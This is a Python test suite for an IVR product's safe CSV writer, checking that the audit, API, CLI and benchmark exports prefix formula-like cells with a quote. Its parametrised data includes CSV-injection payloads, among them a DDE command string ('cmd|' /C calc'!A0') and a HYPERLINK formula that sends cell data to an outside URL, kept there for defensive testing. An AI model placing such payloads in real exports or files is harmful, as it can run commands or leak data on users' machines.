"""Every CSV the product writes is safe to open in a spreadsheet (ivr/csv_export.py)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from hypothesis import given, settings
from hypothesis import strategies as st

from ivr.bench.stats import ProcessUsage, StepResult, write_results
from ivr.citas.flags import PROMO_AUDIO, flag_registry
from ivr.citas.reference import load_reference
from ivr.csv_export import Cell, csv_text, needs_quote, neutralise
from ivr.ops.api import build_ops_app
from ivr.ops.flags import Role
from ivr.ops.metrics import Metrics
from ivr.ops.service import Actor, FlagService, audit_csv
from ivr.ops.store import OpsStore
from ivr.settings import REPO_ROOT
from ivr.store.db import Database

ADMIN = Actor("token:ada", Role.ADMIN)
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
LEADING = ["", " ", "   ", "\n", "\r\n", "\t ", "\xa0", "\u3000", "\u2003"]
PAYLOADS = ["", "1+2", 'HYPERLINK("http://x","clic")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "5"]
# Written apart from the module: after any leading whitespace, a formula sign, a tab
# or a carriage return (the tab and carriage return may be part of that whitespace).
FORMULA = re.compile(r"^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def safe(cell: str) -> bool:
    """What a spreadsheet cannot take for a formula: text marked by the quote, or no formula start."""
    return cell.startswith("'") or not FORMULA.match(cell)


# --- the range: every dangerous first character, behind every kind of leading whitespace ----
@pytest.mark.parametrize("lead", LEADING)
@pytest.mark.parametrize("first", DANGEROUS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_quoted(lead: str, first: str, payload: str) -> None:
    text = lead + first + payload
    [[cell]] = read_back(csv_text([], [[text]]))
    assert cell == "'" + text


@pytest.mark.parametrize(
    "text",
    ["ana", "", "caída del agendador", "'ya citado", "a=b", "5-3", '["890201"]', "2025-03-10",
     "token:ana", "cli:root", "true", "null", "   ", "ventana 2h", "¿=?", "x@y.co"],
)  # fmt: skip
def test_text_without_a_formula_start_is_unchanged(text: str) -> None:
    [[cell]] = read_back(csv_text([], [[text]]))
    assert cell == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"), (0, "0"), (7, "7"), (-0.25, "-0.25"), (1e-05, "1e-05"), (-1e20, "-1e+20"),
        (True, "True"), (False, "False"), (None, ""),
        (float("-inf"), "'-inf"), (float("inf"), "inf"), (float("nan"), "nan"),
        ("-5", "'-5"), ("+57 300 111 2233", "'+57 300 111 2233"), ("@ana", "'@ana"),
    ],
)  # fmt: skip
def test_numbers_are_numbers_and_text_is_text(value: Cell, written: str) -> None:
    # The decision (ivr/csv_export.py): a genuine int or finite float is a number and
    # is never quoted; any string starting like a formula is, even "-5".
    assert read_back(csv_text([], [[value]])) == [[written]]


CHARS = st.sampled_from(
    sorted({*DANGEROUS, *"".join(LEADING), "a", "1", "'", '"', ",", "\n", "|", "é", "\x1c"})
)


@settings(max_examples=400, derandomize=True, database=None, deadline=None)
@given(rows=st.lists(st.lists(st.text(CHARS, max_size=6), min_size=1, max_size=4), max_size=4))
def test_any_text_reads_back_safe_and_whole(rows: list[list[str]]) -> None:
    width = max((len(r) for r in rows), default=0)
    rows = [r + [""] * (width - len(r)) for r in rows]
    back = read_back(csv_text([], rows))
    assert len(back) == len(rows)
    for original, cells in zip(rows, back, strict=True):
        for text, cell in zip(original, cells, strict=True):
            assert safe(cell), (text, cell)
            assert cell == ("'" + text if FORMULA.match(text) else text)
            assert needs_quote(text) == bool(FORMULA.match(text))


@settings(max_examples=200, derandomize=True, database=None, deadline=None)
@given(
    number=st.one_of(
        st.integers(-(10**12), 10**12), st.floats(allow_nan=False, allow_infinity=False)
    )
)
def test_any_number_is_written_as_a_number(number: float) -> None:
    [[cell]] = read_back(csv_text([], [[number]]))
    assert float(cell) == number and neutralise(number) == number


# --- the observation: audit reasons starting with = or @ ---------------------------------
REASONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ver\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+57 300 111 2233 llamó", "-2 agentes", "\t=1+2"]  # fmt: skip


def audit_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check_audit(text: str) -> None:
    rows = audit_rows(text)
    for row in rows:
        assert all(safe(cell) for cell in row.values()), row
        assert int(row["id"]) > 0  # a number column stays a number
    changes = [r for r in rows if r["action"] == "set"]
    assert sorted(r["reason"] for r in changes) == sorted("'" + r.strip() for r in REASONS)
    assert all(json.loads(r["new_value"]) is False for r in changes)


@pytest.fixture
async def service(db: Database) -> FlagService:
    service = FlagService(OpsStore(db), flag_registry(load_reference()))
    for reason in REASONS:
        await service.set_flag(ADMIN, PROMO_AUDIO, False, reason)
    return service


async def test_the_audit_csv_neutralises_reasons(service: FlagService) -> None:
    check_audit(audit_csv(await service.history()))


@pytest.fixture
async def client(service: FlagService) -> AsyncIterator[tuple[TestClient[Any, Any], str]]:
    token = await service.create_token(ADMIN, "csv", Role.VIEWER, "pruebas")
    app = build_ops_app(service, Metrics(), readiness=lambda: {"database": True})
    async with TestClient(TestServer(app)) as http:
        yield http, token


async def test_the_api_audit_csv_neutralises_reasons(
    client: tuple[TestClient[Any, Any], str],
) -> None:
    http, token = client
    for extra in ({"params": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}):
        headers = {"Authorization": f"Bearer {token}", **extra.get("headers", {})}
        response = await http.get("/api/audit", headers=headers, params=extra.get("params"))
        assert response.status == 200 and response.content_type == "text/csv"
        check_audit(await response.text())


def test_the_command_history_csv_neutralises_reasons(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CITAS_")}
    env |= {"CITAS_STATE_DIR": str(tmp_path), "CITAS_INSTANCE": "csvtest"}

    def ivr(*argv: str) -> str:
        done = subprocess.run(
            [sys.executable, "-m", "ivr.cli", *argv],
            env=env, capture_output=True, text=True, errors="replace", timeout=60, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout

    for reason in REASONS:
        ivr("flags", "set", PROMO_AUDIO, "off", "--reason", reason)
    check_audit(ivr("flags", "history", "--csv"))


# --- the benchmark's results.csv -----------------------------------------------------------
def test_the_benchmark_results_keep_numbers_as_numbers(tmp_path: Path) -> None:
    step = StepResult(
        line="=smoke-ari", concurrency=5, placed=5, completed=4, failed=1, duration_s=10.0,
        rate_cps=0.5, max_concurrent_seen=5, reaction_ms=[1.5, 2.5],
        usage={"controller": ProcessUsage(cpu_s=0.4, rss_peak_mb=80.0, window_s=10.0)},
        failures={"-timeout": 1},
    )  # fmt: skip
    write_results(tmp_path, {}, [step])
    text = (tmp_path / "results.csv").read_text(encoding="utf-8")
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["line"] == "'=smoke-ari" and row["failures"] == "'-timeout=1"
    for key, value in step.summary().items():
        if isinstance(value, bool) or value is None:
            continue
        if isinstance(value, int | float):
            assert float(row[key]) == value and not row[key].startswith("'"), key
    assert all(safe(cell) for cell in row.values())


# --- one writer everywhere ---------------------------------------------------------------------
# CSV files the product writes that are not for people: sipp's injection file of
# caller IDs (sipp reads it as is; a quote would become part of the caller ID).
NOT_EXPORTS = {"ivr/scenarios/runner.py": "callers.csv"}


def test_every_csv_the_product_writes_goes_through_the_safe_writer() -> None:
    offenders = []
    for path in sorted((REPO_ROOT / "ivr").rglob("*.py")):
        rel = path.relative_to(REPO_ROOT).as_posix()
        if rel == "ivr/csv_export.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(import csv|from csv import)", source, re.MULTILINE):
            offenders.append(f"{rel}: imports csv")
        for match in re.finditer(r"[\"']([\w\-./]*\.csv)[\"']", source):
            writes = re.search(r"write|open\(", source[match.end() : match.end() + 40])
            if writes and NOT_EXPORTS.get(rel) != match.group(1):
                offenders.append(f"{rel}: writes {match.group(1)}")
    assert offenders == [], "write CSV with ivr.csv_export"
